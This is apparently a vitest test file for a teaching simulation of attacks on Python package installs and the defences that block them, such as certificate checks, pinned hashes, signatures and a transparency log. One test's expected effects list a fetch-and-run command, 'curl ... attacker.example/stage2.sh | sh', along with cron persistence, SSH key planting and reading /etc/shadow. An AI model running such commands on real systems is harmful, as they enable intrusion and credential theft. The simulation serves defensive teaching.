import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { ed25519 } from '@noble/curves/ed25519.js';
import { bytesToHex, utf8ToBytes } from '../../../../core/bytes';
import { expectOk } from '../../../../core/result';
import { encodeAnswer, encodeQuery, parseMessage } from './dns';
import { encodeResponse, parseResponse } from './http';
import { findLink, indexPage, pinnedHashes } from './index-page';
import { runInstall, NO_DEFENCES, type InstallConfig } from './install';
import { checkAgainstLog, merkleRoot } from './log';
import { computeMatrix } from './matrix';
import { readTar, writeTar } from './tar';
import { checkCertificate, handshake, openRecord, sealRecord } from './tls';
import { Drbg } from './drbg';
import { FILENAME, INDEX_HOST, getWorld } from './world';

const hasPython = spawnSync('python3', ['--version']).status === 0;

describe('the bytes of the simulation', () => {
  it('writes tar archives that Python’s tarfile reads back unchanged', () => {
    if (!hasPython) return console.warn('python3 missing: tarfile check skipped');
    const tar = getWorld().genuine.tar;
    const run = spawnSync(
      'python3',
      [
        '-c',
        'import io,sys,tarfile,json; t=tarfile.open(fileobj=io.BytesIO(sys.stdin.buffer.read())); print(json.dumps([[m.name, t.extractfile(m).read().hex()] for m in t.getmembers()]))',
      ],
      { input: tar },
    );
    expect(run.status).toBe(0);
    const members = JSON.parse(run.stdout.toString()) as [string, string][];
    expect(members).toEqual(expectOk(readTar(tar)).map((f) => [f.name, bytesToHex(f.data)]));
    expect(members.map(([name]) => name)).toEqual([
      'tinyutils-1.0.0/PKG-INFO',
      'tinyutils-1.0.0/setup.py',
      'tinyutils-1.0.0/tinyutils/__init__.py',
    ]);
  });

  it('round-trips any files through tar', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            name: fc.stringMatching(/^[a-z]{1,20}(\/[a-z]{1,20}){0,2}$/),
            data: fc.uint8Array({ maxLength: 1500 }),
          }),
          { maxLength: 4 },
        ),
        (files) => {
          const back = expectOk(readTar(writeTar(files, 1331337600)));
          expect(back.map((f) => [f.name, bytesToHex(f.data)])).toEqual(
            files.map((f) => [f.name, bytesToHex(f.data)]),
          );
        },
      ),
      { numRuns: 100 },
    );
  });

  it('encodes and parses DNS queries and answers (RFC 1035 wire format)', () => {
    const query = encodeQuery(0xbeef, 'pypi.example');
    expect(bytesToHex(query)).toBe('beef010000010000000000000470797069076578616d706c650000010001');
    const answer = expectOk(
      parseMessage(encodeAnswer(0xbeef, 'pypi.example', [192, 0, 2, 10], 300)),
    );
    expect(answer).toEqual({
      id: 0xbeef,
      response: true,
      question: 'pypi.example',
      answers: [{ ip: [192, 0, 2, 10], ttl: 300 }],
    });
  });

  it('parses HTTP responses and refuses a wrong Content-Length', () => {
    const body = utf8ToBytes('hello');
    expect(expectOk(parseResponse(encodeResponse(200, 'text/plain', body))).body).toEqual(body);
    const bad = encodeResponse(200, 'text/plain', body).subarray(0, -1);
    expect(parseResponse(bad)).toMatchObject({ ok: false, error: { code: 'http/length' } });
  });

  it('reads the link and hash from an index page, and pinned hashes from a lock file', () => {
    const html = indexPage('tinyutils', [
      {
        url: 'https://files.example/packages/tinyutils-1.0.0.tar',
        hash: { name: 'sha256', hex: 'ab'.repeat(32) },
      },
    ]);
    expect(expectOk(findLink(html, 'tinyutils-1.0.0.tar'))).toMatchObject({
      url: 'https://files.example/packages/tinyutils-1.0.0.tar',
      hash: { name: 'sha256', hex: 'ab'.repeat(32) },
    });
    expect(expectOk(pinnedHashes(getWorld().lockFile, 'tinyutils')).hashes).toEqual([
      getWorld().genuine.sha256,
    ]);
  });

  it('hashes the archives as node:crypto does and signs them with Ed25519', () => {
    const { genuine, evil, publisher, attackerSigner } = getWorld();
    expect(genuine.sha256).toBe(createHash('sha256').update(genuine.tar).digest('hex'));
    expect(genuine.md5).toBe(createHash('md5').update(genuine.tar).digest('hex'));
    expect(evil.sha256).not.toBe(genuine.sha256);
    expect(ed25519.verify(genuine.signature, genuine.tar, publisher.publicKey)).toBe(true);
    expect(ed25519.verify(evil.signature, evil.tar, attackerSigner.publicKey)).toBe(true);
    expect(ed25519.verify(evil.signature, evil.tar, publisher.publicKey)).toBe(false);
  });

  it('checks certificates against the pinned CA key and the host name', () => {
    const world = getWorld();
    expect(
      checkCertificate(world.servers[INDEX_HOST]!.certificate, INDEX_HOST, world.trustStore).ok,
    ).toBe(true);
    expect(
      checkCertificate(world.forged[INDEX_HOST]!.certificate, INDEX_HOST, world.trustStore),
    ).toMatchObject({ ok: false, findings: [expect.stringMatching(/not in the trust store/)] });
    expect(
      checkCertificate(
        world.servers['attacker.example']!.certificate,
        INDEX_HOST,
        world.trustStore,
      ),
    ).toMatchObject({ ok: false });
  });

  it('derives the same TLS keys on both ends, and rejects a changed record byte', () => {
    const hs = handshake(getWorld().servers[INDEX_HOST]!, new Drbg('test'));
    expect(hs.serverProvedKey).toBe(true);
    const record = sealRecord(hs.server, 1, utf8ToBytes('HTTP/1.1 200 OK'));
    expect(openRecord(hs.client, 1, record)).toEqual(utf8ToBytes('HTTP/1.1 200 OK'));
    fc.assert(
      fc.property(fc.nat(record.length - 1), (i) => {
        const changed = record.slice();
        changed[i]! ^= 0x01;
        expect(openRecord(hs.client, 1, changed)).toBeNull();
      }),
      { numRuns: 50 },
    );
  });

  it('computes the RFC 6962 Merkle root, and flags a changed file', () => {
    const leaves = ['a', 'b', 'c'].map(utf8ToBytes);
    const h = (...parts: Buffer[]) => createHash('sha256').update(Buffer.concat(parts)).digest();
    const leaf = (s: string) => h(Buffer.from([0]), Buffer.from(s));
    const expected = h(Buffer.from([1]), h(Buffer.from([1]), leaf('a'), leaf('b')), leaf('c'));
    expect(bytesToHex(merkleRoot(leaves))).toBe(expected.toString('hex'));
    const world = getWorld();
    expect(
      checkAgainstLog(world.log, world.logKey.publicKey, FILENAME, world.genuine.sha256).ok,
    ).toBe(true);
    expect(
      checkAgainstLog(world.log, world.logKey.publicKey, FILENAME, world.evil.sha256),
    ).toMatchObject({
      ok: false,
      findings: [expect.anything(), expect.stringMatching(/^Changed file/)],
    });
    const tampered = {
      ...world.log,
      entries: world.log.entries.map((e) =>
        e.file === FILENAME ? { ...e, sha256: world.evil.sha256 } : e,
      ),
    };
    expect(
      checkAgainstLog(tampered, world.logKey.publicKey, FILENAME, world.evil.sha256).findings[0],
    ).toMatch(/does not verify/);
  });
});

const install = (
  attacker: InstallConfig['attacker'],
  defences = {},
  privilege: InstallConfig['privilege'] = 'root',
) => runInstall({ attacker, defences: { ...NO_DEFENCES, ...defences }, privilege });

describe('simulated installs', () => {
  it('install the genuine package when nobody attacks, whatever the defences', () => {
    const result = install('none', {
      transport: 'tls-verify',
      pageHash: 'md5',
      lockFile: true,
      signature: true,
      log: true,
    });
    expect(result.outcome).toBe('clean');
    expect(result.steps.every((s) => s.status === 'ok')).toBe(true);
    expect(result.effects.filter((e) => e.action === 'install').map((e) => e.target)).toEqual([
      '/usr/local/lib/python3.12/dist-packages/tinyutils/__init__.py',
    ]);
  });

  it('show a spoofed DNS answer taken first on open Wi-Fi', () => {
    const result = install('wifi');
    const dns = result.steps.find((s) => s.id === 'dns-pypi.example')!;
    expect(dns.status).toBe('attacked');
    expect(dns.details.join(' ')).toMatch(/203\.0\.113\.66 — id and question match: used/);
    expect(result.outcome).toBe('compromised');
  });

  it('run the attacker’s setup.py as root under sudo, and as the user in a venv', () => {
    const root = install('mirror', {}, 'root');
    expect(root.effects.map((e) => [e.action, e.target, e.allowed])).toEqual([
      ['run', 'curl -s https://attacker.example/stage2.sh | sh', true],
      ['write', '/etc/cron.d/tinyutils', true],
      ['append', '/root/.ssh/authorized_keys', true],
      ['read', '/etc/shadow', true],
      ['install', '/usr/local/lib/python3.12/dist-packages/tinyutils/__init__.py', true],
    ]);
    const user = install('mirror', {}, 'user');
    expect(user.outcome).toBe('compromised');
    expect(user.effects.map((e) => [e.action, e.target, e.allowed, e.uid])).toEqual([
      ['run', 'curl -s https://attacker.example/stage2.sh | sh', true, 1000],
      ['write', '/etc/cron.d/tinyutils', false, 1000],
      ['append', '/home/alice/.ssh/authorized_keys', true, 1000],
      ['read', '/etc/shadow', false, 1000],
      [
        'install',
        '/home/alice/venv/lib/python3.12/site-packages/tinyutils/__init__.py',
        true,
        1000,
      ],
    ]);
  });

  it('stop DNS spoofing at the certificate check, before any byte of the page is read', () => {
    const result = install('wifi', { transport: 'tls-verify' });
    expect(result.outcome).toBe('blocked');
    expect(result.blockedBy).toBe('Certificate check');
    expect(result.steps.map((s) => s.id)).toEqual(['dns-pypi.example', 'get-index-page']);
  });
});

describe('the attack × defence matrix, as running each pair gives it', () => {
  const matrix = computeMatrix();
  const cell = (attacker: string, column: string) =>
    matrix.rows.find((r) => r.attacker === attacker)!.cells.find((c) => c.column === column)!;

  it('has every attacker against every defence', () => {
    expect(matrix.rows.map((r) => r.attacker)).toEqual([
      'none',
      'wifi',
      'onpath',
      'mirror',
      'index',
    ]);
    for (const row of matrix.rows) expect(row.cells).toHaveLength(matrix.columns.length);
  });

  it('never breaks an honest install, and every attack works with no defence', () => {
    for (const c of matrix.rows[0]!.cells) expect(c.outcome).toBe('clean');
    for (const row of matrix.rows.slice(1))
      expect(cell(row.attacker, 'none').outcome).toBe('compromised');
  });

  it('MD5 (or SHA-256) from the same page does not stop an on-path attacker, but stops a bad mirror', () => {
    expect(cell('onpath', 'md5').outcome).toBe('compromised');
    expect(cell('onpath', 'sha256').outcome).toBe('compromised');
    expect(cell('mirror', 'md5')).toMatchObject({
      outcome: 'blocked',
      blockedBy: 'MD5 from the index page',
    });
  });

  it('certificate checks stop DNS spoofing and interception, but not a compromised index or mirror', () => {
    expect(cell('wifi', 'tls-verify')).toMatchObject({
      outcome: 'blocked',
      blockedBy: 'Certificate check',
    });
    expect(cell('onpath', 'tls-verify').outcome).toBe('blocked');
    expect(cell('wifi', 'tls').outcome).toBe('compromised');
    expect(cell('index', 'tls-verify').outcome).toBe('compromised');
    expect(cell('mirror', 'tls-verify').outcome).toBe('compromised');
  });

  it('a pinned hash, a pinned signing key or the log stops every attacker here', () => {
    for (const attacker of ['wifi', 'onpath', 'mirror', 'index'])
      for (const column of ['lock', 'signature', 'log'])
        expect(cell(attacker, column).outcome, `${attacker} × ${column}`).toBe('blocked');
    expect(cell('index', 'lock').blockedBy).toBe('Hash pinned in the lock file');
    expect(cell('index', 'log').blockedBy).toBe('Transparency log');
  });

  it('sums up what each attacker bypasses', () => {
    const index = matrix.rows.find((r) => r.attacker === 'index')!;
    expect(index.bypasses).toEqual([
      'TLS, certificate not checked',
      'TLS, certificate checked',
      'MD5 from the index page',
      'SHA-256 from the index page',
    ]);
    expect(index.stoppedBy).toEqual([
      'Hash pinned in a lock file',
      'Signature, pinned key',
      'Transparency log',
    ]);
  });
});
